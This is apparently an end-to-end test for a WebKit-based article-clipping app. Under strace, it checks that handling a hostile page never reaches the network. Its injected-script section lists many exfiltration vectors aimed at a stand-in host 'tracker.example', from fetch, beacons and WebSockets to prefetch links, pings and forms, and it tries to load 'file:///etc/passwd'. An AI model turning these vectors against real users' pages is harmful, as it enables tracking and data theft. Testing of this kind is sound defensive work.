// A day's work with a page that means harm, and not one connection: every process of the program is watched by the kernel's
// own trace while it imports, reads, shows the original, searches and exports. Then a script that got in, and every way out.

import assert from "node:assert/strict";
import { spawnSync } from "node:child_process";
import { chmodSync, readFileSync, writeFileSync } from "node:fs";
import { createServer } from "node:http";
import { hostilePage } from "./hostile.mjs";
import { binary, journey, run } from "./journey.mjs";
import { until } from "./processes.mjs";

const TRACED = "connect,sendto,sendmsg,sendmmsg";
const canTrace = spawnSync("strace", ["-f", "-qq", "-e", `trace=${TRACED}`, "true"]).status === 0;

const options = {
  size: [1440, 900],
  timeout: 240_000,
  skip: canTrace ? false : "strace may not trace here, so nothing would be proved",
  prepare: async (stage) => {
    stage.asked = [];
    stage.server = createServer((request, response) => {
      stage.asked.push(request.url);
      response.setHeader("Content-Type", "text/html").end("<title>Heard</title><p>This page was asked for.</p>");
    });
    await new Promise((listening) => stage.server.listen(0, "127.0.0.1", listening));
    stage.server.unref();
    stage.to = `http://127.0.0.1:${stage.server.address().port}`;
    writeFileSync(stage.path("doors.html"), Buffer.from(hostilePage(stage.to), "latin1"));
    // A name too, for looking it up would tell somebody.
    writeFileSync(
      stage.path("named.html"),
      Buffer.from(
        hostilePage("https://tracker.example")
          .replaceAll("Nine doors stand open", "A tenth door")
          .replaceAll("quay", "pier")
          .replaceAll("harbour", "port"),
        "latin1",
      ),
    );
    run("import", "--library", stage.path("Desk.clipfile"), stage.path("doors.html"));
    stage.answerDialogs([[stage.path("named.html")], stage.path("out.html"), stage.path("copy.html")]);
    options.args = [stage.path("Desk.clipfile")];
    options.program = stage.path("traced.sh");
    const trace = `strace -f -qq -s 64 -e trace=${TRACED} -e signal=none -o '${stage.path("trace.txt")}'`;
    writeFileSync(options.program, `#!/bin/sh\nexec ${trace} '${binary}' "$@"\n`);
    chmodSync(options.program, 0o700);
  },
};

journey("A day's work reaches nobody", options, async (driver, stage) => {
  const shoot = async (name) => writeFileSync(stage.path(`${name}.png`), await driver.screenshot());
  /** What went to an address of the internet protocols, of either version, but for the thread by which this journey is led. */
  const reached = () =>
    readFileSync(stage.path("trace.txt"), "utf8")
      .split("\n")
      .filter((line) => /AF_INET6?\b/.test(line) && !line.includes(led));
  // WebKit connects to whoever drives it, at the address that it is started with, and to nobody when nobody drives it.
  const environ = stage.processes().map(({ pid }) => readFileSync(`/proc/${pid}/environ`, "utf8"));
  const leader = environ.flatMap((one) => one.match(/WEBKIT_INSPECTOR_SERVER=127\.0\.0\.1:(\d+)/) ?? [])[1];
  assert.ok(leader, "it is known who leads");
  const led = `sin_port=htons(${leader}), sin_addr=inet_addr("127.0.0.1")`;
  const silent = (after) => {
    assert.deepEqual(reached(), [], `after ${after}`);
    assert.deepEqual(stage.asked, [], `after ${after}`);
  };

  // Read, marked, and the original beside it.
  await driver.click({ css: "[role=option]", text: "Nine doors stand open" });
  await driver.find({ css: "main h1", text: "Nine doors stand open" });
  await driver.select("names nine doors");
  await driver.keys("2");
  await driver.find("[data-passage]");
  await driver.keys("Escape", "o");
  const frame = await driver.find("iframe");
  await driver.waitFor("the frame is loaded", (node) => node.contentDocument === null, [frame]);
  await driver.call("POST", "/frame", { id: frame });
  await driver.click("#out");
  await driver.click("#send");
  await driver.call("POST", "/frame", { id: null });
  await driver.click({ css: "button", text: "Back to the article" });
  silent("reading");

  // Another one is imported, found and written.
  await driver.keys("Control+i");
  await driver.find({ css: "[role=option]", text: "A tenth door" });
  await driver.keys("Control+f");
  await driver.type("doors");
  await driver.find({ css: "[role=option] mark", text: "doors" });
  await driver.keys("Escape");
  await driver.click({ css: "[role=option]", text: "A tenth door" });
  await driver.find({ css: "main h1", text: "A tenth door" });
  await driver.keys("o");
  const named = await driver.find("iframe");
  await driver.waitFor("the frame is loaded", (node) => node.contentDocument === null, [named]);
  await driver.click({ css: "button", text: "Back to the article" });
  await driver.keys("Control+e");
  await driver.click({ css: "[role=dialog] label", text: "Web page" });
  await driver.click({ css: "[role=dialog] button", text: "Choose a place" });
  await driver.find({ css: "[role=dialog] button", text: "Show in folder" });
  await driver.keys("Escape");
  await driver.gone("[role=dialog]");
  silent("importing, searching and exporting");

  // The words of a link are its author's: where it leads is shown, and nothing is opened before that.
  await driver.click({ css: "[role=option]", text: "Nine doors stand open" });
  await driver.find({ css: "main h1", text: "Nine doors stand open" });
  for (const link of await driver.all("a[href]"))
    assert.equal(
      await driver.execute((node) => node.draggable, link),
      false,
      "a link could be drawn out of the window",
    );
  await driver.click({ css: "main button", text: "Add note" });
  await driver.find("main textarea");
  await driver.type(`[your bank](${stage.to}/bank)`);
  await driver.keys("Control+Enter");
  await driver.click({ css: "main a", text: "your bank" });
  await driver.find({ css: "[role=dialog] .address", text: `${stage.to}/bank` });
  await shoot("address");
  await driver.execute(() => void (document.documentElement.dataset.theme = "dark"));
  await shoot("address-dark");
  await driver.execute(() => void (document.documentElement.dataset.theme = "light"));
  await driver.keys("Escape");
  await driver.gone("[role=dialog]");
  silent("looking at where a link leads");

  // A script that got in: it loads nothing, and goes nowhere.
  const tried = await driver.executeAsync(async (to) => {
    const tells = [];
    const add = (tag, fields, parent = document.body) => {
      const node = document.createElement(tag);
      parent.append(Object.assign(node, fields));
      return node;
    };
    const attempt = async (name, work) => {
      try {
        const answer = await Promise.race([work(), new Promise((done) => setTimeout(done, 500, "no answer"))]);
        tells.push([name, String(answer)]);
      } catch (error) {
        tells.push([name, `refused: ${error.name}`]);
      }
    };
    for (const base of [to, "https://tracker.example"]) {
      await attempt("fetch", () => fetch(`${base}/fetch`, { mode: "no-cors" }).then(() => "REACHED"));
      await attempt("beacon", () => (navigator.sendBeacon?.(`${base}/beacon`, "x"), "no answer"));
      await attempt("request", () => {
        const request = new XMLHttpRequest();
        request.open("GET", `${base}/xhr`);
        request.send();
        return new Promise((done) => request.addEventListener("loadend", () => done(request.status || "no answer")));
      });
      await attempt(
        "socket",
        () =>
          new Promise((done) => {
            const socket = new WebSocket(base.replace("http", "ws"));
            socket.onopen = () => done("REACHED");
            socket.onerror = () => done("no answer");
          }),
      );
      await attempt(
        "events",
        () =>
          new Promise((done) => {
            const events = new EventSource(`${base}/events`);
            events.onopen = () => done("REACHED");
            events.onerror = () => (events.close(), done("no answer"));
          }),
      );
      await attempt("module", () => import(`${base}/module.js`).then(() => "REACHED"));
      await attempt("worker", () => (new Worker(`${base}/worker.js`), "no answer"));
      await attempt("service worker", () =>
        navigator.serviceWorker.register(`${base}/service.js`).then(() => "REACHED"),
      );
      await attempt("peer", async () => {
        const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:${new URL(base).host}` }] });
        peer.createDataChannel("x");
        await peer.setLocalDescription(await peer.createOffer());
        return "no answer";
      });
      for (const rel of ["stylesheet", "prefetch", "preload", "icon", "manifest", "modulepreload"])
        add("link", { rel, href: `${base}/${rel}`, as: "image" }, document.head);
      for (const tag of ["img", "script", "iframe", "embed", "video", "audio"]) add(tag, { src: `${base}/${tag}` });
      add("object", { data: `${base}/object` });
      add("iframe", { srcdoc: `<img src="${base}/srcdoc">` });
      add(
        "style",
        { textContent: `body { background: url("${base}/background") } @import "${base}/import";` },
        document.head,
      );
      const sheet = new CSSStyleSheet();
      sheet.replaceSync(`body { border-image: url("${base}/sheet") 1 }`);
      document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
      add("a", { href: `${base}/ping`, ping: `${base}/pinged`, target: "_blank", textContent: "x" }).click();
      const form = add("form", { action: `${base}/form`, method: "post" });
      form.submit();
      add("meta", { httpEquiv: "refresh", content: `0; url=${base}/refresh` }, document.head);
      tells.push(["window", String(window.open(`${base}/open`))]);
    }
    return tells;
  }, stage.to);
  for (const [name, answer] of tried) assert.match(answer, /^(no answer|refused: .*|null|undefined)$/, name);
  silent("a script that loads");
  const home = await driver.execute(() => location.href);
  const leads = [
    stage.to,
    "https://tracker.example/x",
    "file:///etc/passwd",
    "data:text/html,<h1>x",
    "about:blank",
    "clip://localhost/picture/00",
  ];
  for (const address of leads) {
    await driver.execute((address) => void (location.href = address), address);
    await driver.execute((address) => void location.replace(address), address);
  }
  await driver.find({ css: "main h1", text: "Nine doors stand open" });
  assert.equal(await driver.execute(() => location.href), home);
  assert.equal((await driver.call("GET", "/window/handles")).length, 1);
  silent("a script that goes elsewhere");
  await shoot("still-there");

  // The trace does see whoever goes out: without this, its silence would prove nothing.
  await driver.keys("Control+,");
  await driver.click({ css: "label", text: "Allow addresses in my own network" });
  await driver.keys("Escape");
  await driver.keys("Control+l");
  await driver.fill({ css: "[role=dialog] input" }, `${stage.to}/asked`);
  await driver.keys("Enter");
  await until("the page that the user asked for was fetched", () => stage.asked.includes("/asked"));
  await until("the trace has it", () => reached().length > 0);
  assert.ok(
    reached().every((line) => line.includes("127.0.0.1")),
    reached().join("\n"),
  );
});
